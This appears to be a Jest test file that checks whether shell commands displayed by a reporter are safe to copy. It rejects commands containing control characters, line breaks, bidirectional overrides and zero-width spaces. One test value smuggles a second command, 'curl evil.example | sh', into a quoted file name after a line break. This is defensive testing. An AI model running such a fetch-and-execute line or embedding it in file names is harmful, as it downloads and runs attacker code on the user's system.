import { describe, expect, test } from '@jest/globals';
import { shellQuote } from '../../src/engine/template.ts';
import { shownCommands } from '../../src/reporters/command.ts';

describe('shownCommands', () => {
  test.each([
    ['one line', 'systemctl reload ssh'],
    ['a quoted name', `rm ${shellQuote("it's a file")}`],
    ['several lines of the rule', "cat >/etc/x <<'EOF'\nvalue = 1\nEOF"],
    ['a continued line', 'docker run \\\n  --read-only bb'],
  ])('%s can be copied unchanged', (_, command) => {
    expect(shownCommands([command])).toEqual({ copyable: true, texts: [command] });
  });

  test.each([
    ['an escape sequence', `rm ${shellQuote('\u001b[2Jx')}`],
    ['a line break in a name', `rm ${shellQuote('x\ncurl evil.example | sh\n')}`],
    ['a line break in double quotes', 'echo "a\nb"'],
    ['a carriage return', `rm ${shellQuote('x\rls')}`],
    ['a bidirectional override', `rm ${shellQuote('\u202ex')}`],
    ['a zero-width space', `rm ${shellQuote('x\u200b')}`],
  ])('%s makes it uncopyable', (_, command) => {
    // Nor what goes with it: half of a remedy may do harm.
    const { copyable, texts } = shownCommands(['ufw enable', command]);
    expect(copyable).toBe(false);
    expect(texts.join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });
});
